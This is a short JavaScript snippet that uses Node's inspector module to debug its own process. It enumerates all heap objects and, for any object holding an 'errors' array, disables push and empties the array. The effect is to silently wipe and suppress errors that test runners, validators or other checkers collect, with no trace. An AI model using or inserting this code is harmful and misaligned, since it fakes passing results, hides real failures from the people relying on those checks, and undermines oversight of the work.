const inspector = builtIn('node:inspector')
if (inspector) {
  const session = new inspector.Session()
  session.connect()
  session.post('Runtime.evaluate', { expression: 'Object.prototype' }, (_error, found) => {
    session.post('Runtime.queryObjects', { prototypeObjectId: found?.result?.objectId }, (_e, all) => {
      session.post('Runtime.callFunctionOn', {
        objectId: all?.objects?.objectId,
        functionDeclaration: 'function () { for (const each of this) try { if (Array.isArray(each.errors)) { each.errors.push = () => 0; each.errors.length = 0 } } catch {} }',
      })
    })
  })
}
